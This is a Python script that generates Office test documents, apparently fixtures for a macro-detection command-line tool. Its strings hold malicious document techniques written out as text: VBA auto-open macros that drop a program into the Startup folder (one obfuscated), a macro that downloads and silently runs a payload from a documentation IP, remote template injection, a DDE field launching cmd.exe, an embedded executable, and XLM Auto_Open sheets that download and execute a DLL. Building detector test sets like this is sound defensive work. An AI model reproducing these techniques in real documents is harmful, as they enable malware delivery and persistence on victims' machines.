#!/usr/bin/env python3
"""mkdoc.py OUTDIR - the Office documents tests/cli/doc.bats judges,
assembled from parts (zipfile for OOXML, mkvba.py for VBA projects and
OLE objects).  Nothing here runs anything: the macros are text."""
import os
import struct
import sys
import zipfile

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
import mkvba  # noqa: E402

OUT = sys.argv[1]
os.makedirs(OUT, exist_ok=True)

CT_HEAD = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
           '<Types xmlns="http://schemas.openxmlformats.org/package/2006/'
           'content-types"><Default Extension="rels" ContentType="application/'
           'vnd.openxmlformats-package.relationships+xml"/><Default Extension='
           '"xml" ContentType="application/xml"/>')
RELS = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/'
        'relationships">{}</Relationships>')
R_OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"


def rel(rid, typ, target, external=False):
    return ('<Relationship Id="{}" Type="{}{}" Target="{}"{}/>'
            .format(rid, R_OFFICE, typ, target,
                    ' TargetMode="External"' if external else ""))


def write_zip(name, parts):
    with zipfile.ZipFile(os.path.join(OUT, name), "w",
                         zipfile.ZIP_DEFLATED) as z:
        for pn, data in parts:
            z.writestr(pn, data)


def xlsx(name, vba=None, macrosheet=None, names="", extra=()):
    me = vba is not None or macrosheet is not None
    ct = CT_HEAD
    main = ("application/vnd.ms-excel.sheet.macroEnabled.main+xml" if me else
            "application/vnd.openxmlformats-officedocument.spreadsheetml."
            "sheet.main+xml")
    ct += '<Override PartName="/xl/workbook.xml" ContentType="%s"/>' % main
    wrels = rel("rId1", "worksheet", "worksheets/sheet1.xml")
    parts = [("xl/worksheets/sheet1.xml",
              '<worksheet><sheetData><row r="1"><c r="A1"><v>1</v></c></row>'
              '</sheetData></worksheet>')]
    if vba is not None:
        ct += ('<Override PartName="/xl/vbaProject.bin" ContentType='
               '"application/vnd.ms-office.vbaProject"/>')
        wrels += ('<Relationship Id="rId9" Type="http://schemas.microsoft.com/'
                  'office/2006/relationships/vbaProject" '
                  'Target="vbaProject.bin"/>')
        parts.append(("xl/vbaProject.bin", mkvba.vba_project(vba)))
    sheets = '<sheet name="Sheet1" sheetId="1" r:id="rId1"/>'
    if macrosheet is not None:
        ct += ('<Override PartName="/xl/macrosheets/sheet2.xml" ContentType='
               '"application/vnd.ms-excel.macrosheet+xml"/>')
        wrels += rel("rId2", "macrosheet", "macrosheets/sheet2.xml")
        sheets += ('<sheet name="Macro1" sheetId="2" state="veryHidden" '
                   'r:id="rId2"/>')
        cells = "".join('<row r="{0}"><c r="A{0}"><f>{1}</f></c></row>'
                        .format(i + 1, f) for i, f in enumerate(macrosheet))
        parts.append(("xl/macrosheets/sheet2.xml",
                      '<xm:macrosheet><sheetData>%s</sheetData>'
                      '</xm:macrosheet>' % cells))
    ct += "</Types>"
    parts = [("[Content_Types].xml", ct),
             ("_rels/.rels", RELS.format(rel("rId1", "officeDocument",
                                             "xl/workbook.xml"))),
             ("xl/workbook.xml",
              '<workbook xmlns:r="%s"><sheets>%s</sheets>%s</workbook>'
              % (R_OFFICE[:-14], sheets,
                 "<definedNames>%s</definedNames>" % names if names else "")),
             ("xl/_rels/workbook.xml.rels", RELS.format(wrels))] + parts
    write_zip(name, parts + list(extra))


def docx(name, body="", vba=None, settings_rels="", extra=()):
    me = vba is not None
    ct = CT_HEAD + ('<Override PartName="/word/document.xml" ContentType='
                    '"application/vnd.%s"/>' % (
                        "ms-word.document.macroEnabled.main+xml" if me else
                        "openxmlformats-officedocument.wordprocessingml."
                        "document.main+xml"))
    drels = ""
    parts = []
    if me:
        ct += ('<Override PartName="/word/vbaProject.bin" ContentType='
               '"application/vnd.ms-office.vbaProject"/>')
        drels += ('<Relationship Id="rId9" Type="http://schemas.microsoft.com'
                  '/office/2006/relationships/vbaProject" '
                  'Target="vbaProject.bin"/>')
        parts.append(("word/vbaProject.bin", mkvba.vba_project(vba)))
    ct += "</Types>"
    parts = [("[Content_Types].xml", ct),
             ("_rels/.rels", RELS.format(rel("rId1", "officeDocument",
                                             "word/document.xml"))),
             ("word/document.xml",
              '<w:document xmlns:w="http://schemas.openxmlformats.org/'
              'wordprocessingml/2006/main"><w:body>%s</w:body></w:document>'
              % (body or "<w:p><w:r><w:t>Hello</w:t></w:r></w:p>")),
             ("word/_rels/document.xml.rels", RELS.format(drels)),
             ("word/settings.xml", "<w:settings/>")] + parts
    if settings_rels:
        parts.append(("word/_rels/settings.xml.rels",
                      RELS.format(settings_rels)))
    write_zip(name, parts + list(extra))


FLAGPRO = r'''Attribute VB_Name = "ThisWorkbook"
Private Sub Workbook_Open()
    Dim p As String
    p = Environ("APPDATA") & "\Microsoft\Windows\Start Menu\Programs\Startup\dwm.exe"
    Open p For Binary Access Write As #1
    Put #1, , Sheet1.Range("A1").Value
    Close #1
End Sub
'''

FLAGPRO_OBF = r'''Attribute VB_Name = "ThisWorkbook"
Private Sub Workbook_Open()
    ' keep the user busy
    a = Chr(92) & Chr(77) & "icro" & "soft\Win" & "dows\" & StrReverse("uneM tratS")
    b = "\Progr" + "ams\" & Chr(83) & Chr(116) & Chr(97) & Chr(114) & Chr(116) & Chr(117) & Chr(112)
    c = StrReverse("exe.mwd") : d = Environ(Chr(65) & "PPDATA")
    Set s = CreateObject(Replace("ADOxxDB.Stream", "xx", ""))
    s.Type = 1: s.Open
    s.SaveToFile d & a & b & "\" & c, 2
End Sub
'''

DL_SHELL = r'''Attribute VB_Name = "ThisDocument"
Sub Document_Open()
    Set x = CreateObject("MSXML2.XMLHTTP")
    x.Open "GET", "http://198.51.100.23/invoice/payload.bin", False
    x.send
    Set w = CreateObject("WScript.Shell")
    w.Run "cmd /c %TEMP%\payload.exe", 0
End Sub
'''

BENIGN = r'''Attribute VB_Name = "Module1"
' Formatting and sums for the monthly report. Do not run twice.
Sub FormatReport()
    Range("A1:F1").Font.Bold = True
    Columns("A:F").AutoFit
    Range("G2").Value = Application.WorksheetFunction.Sum(Range("B2:F2"))
    MsgBox "Report formatted, run complete"
End Sub

Private Sub Worksheet_Change(ByVal Target As Range)
    If Target.Column = 2 Then Target.Offset(0, 5).Value = Now
End Sub

Sub RunExport_Click()
    Dim f As String
    f = ThisWorkbook.Path & "\export.csv"
    Open f For Output As #1
    Print #1, "id,name,total"
    Close #1
    Application.Run "FormatReport"
End Sub

Private Sub Workbook_Open()
    MsgBox "Welcome: {3F2504E0-4F89-11D3-9A0C-0305E82C3301}"
End Sub
'''

xlsx("flagpro.xlsm", vba={"ThisWorkbook": (FLAGPRO, "doc")})
xlsx("flagpro_obf.xlsm", vba={"ThisWorkbook": (FLAGPRO_OBF, "doc")})
docx("dl_shell.docm", vba={"ThisDocument": (DL_SHELL, "doc")})
xlsx("benign.xlsm", vba={"Module1": (BENIGN, "std")})
with open(os.path.join(OUT, "bare_vbaProject.bin"), "wb") as f:
    f.write(mkvba.vba_project({"ThisWorkbook": (FLAGPRO, "doc")}))

# remote template injection: the settings part points outside
docx("template.docx", settings_rels=rel(
    "rId1", "attachedTemplate",
    "http://203.0.113.50/templates/normal.dotm", True))
# DDE, split over runs as Word writes it
docx("dde.docx", body=(
    '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>'
    '<w:r><w:instrText xml:space="preserve"> DDE</w:instrText></w:r>'
    '<w:r><w:instrText xml:space="preserve">AUTO c:\\\\windows\\\\system32'
    '\\\\cmd.exe "/k calc.exe"</w:instrText></w:r>'
    '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'))
# a field that is not DDE (a page number)
docx("fields.docx", body=(
    '<w:p><w:r><w:instrText> PAGE \\* MERGEFORMAT</w:instrText></w:r>'
    '<w:fldSimple w:instr=" DATE \\@ &quot;yyyy&quot; "/></w:p>'))
# an external hyperlink is not a template
docx("hyperlink.docx", extra=[("word/_rels/document.xml.rels", "")] and [],
     settings_rels=rel("rId2", "hyperlink", "https://example.org/", True))
# an embedded OLE package holding a program
pkg = (struct.pack("<IH", 0, 2) + b"invoice.exe\0C:\\t\\invoice.exe\0"
       + b"\0\0\3\0" + b"MZ" + b"\0" * 64)
docx("package.docx", extra=[("word/embeddings/oleObject1.bin",
                             mkvba.cfb({"\x01Ole10Native": pkg}))])

# XLM macro sheets
xlsx("xlm_exec.xlsm", macrosheet=['EXEC("calc.exe")', "HALT()"],
     names='<definedName name="_xlnm.Auto_Open" hidden="1">'
           'Macro1!$A$1</definedName>')
xlsx("xlm_download.xlsm", macrosheet=[
    'CALL("urlmon","URLDownloadToFileA","JJCCJJ",0,'
    '"http://203.0.113.7/a.dat","c:\\Users\\Public\\a.dll",0,0)',
    'EXEC("rundll32.exe c:\\Users\\Public\\a.dll,DllRegister")',
    "HALT()"],
     names='<definedName name="Auto_Open">Macro1!$A$1</definedName>')
xlsx("xlm_noauto.xlsm", macrosheet=['SUM(1,2)', "RETURN()"])
xlsx("plain.xlsx")

# SYLK: Excel 4 macros as text
with open(os.path.join(OUT, "macro.slk"), "w") as f:
    f.write("ID;P\nC;X1;Y1;K0;EEXEC(\"cmd.exe /c calc.exe\")\n"
            "C;X1;Y2;K0;EHALT()\nNN;NAuto_open;ER1C1\nE\n")
with open(os.path.join(OUT, "plain.slk"), "w") as f:
    f.write("ID;PWXL;N;E\nC;Y1;X1;K\"name\"\nC;Y1;X2;K3;ESUM(1,2)\nE\n")

# not macros at all
open(os.path.join(OUT, "empty.xls"), "wb").close()
with open(os.path.join(OUT, "notes.txt"), "w") as f:
    f.write("Sub Workbook_Open()\nShell \"calc.exe\"\nEnd Sub\n")
with open(os.path.join(OUT, "data.csv"), "w") as f:
    f.write("id,macro,cmd\n1,Auto_Open,\"=EXEC(\"\"calc\"\")\"\n")
with open(os.path.join(OUT, "excel2003.xml"), "w") as f:
    f.write('<?xml version="1.0"?>\n<?mso-application progid="Excel.Sheet"?>'
            '\n<Workbook xmlns="urn:schemas-microsoft-com:office:spreadsheet">'
            '<Worksheet ss:Name="S"><Table><Row><Cell ss:Formula="=SUM(1,2)">'
            '<Data ss:Type="Number">3</Data></Cell></Row></Table></Worksheet>'
            '</Workbook>\n')

# a zip with a password is not OOXML: the encryption flag on every entry
src = os.path.join(OUT, "xlm_exec.xlsm")
raw = bytearray(open(src, "rb").read())
i = 0
while True:
    i = raw.find(b"PK\x03\x04", i)
    if i < 0:
        break
    raw[i + 6] |= 1
    i += 4
i = 0
while True:
    i = raw.find(b"PK\x01\x02", i)
    if i < 0:
        break
    raw[i + 8] |= 1
    i += 4
with open(os.path.join(OUT, "locked.zip"), "wb") as f:
    f.write(raw)

# a document inside a zip inside a zip
with zipfile.ZipFile(os.path.join(OUT, "mail.zip"), "w") as z:
    z.write(os.path.join(OUT, "xlm_exec.xlsm"), "attachments/report.xlsm")
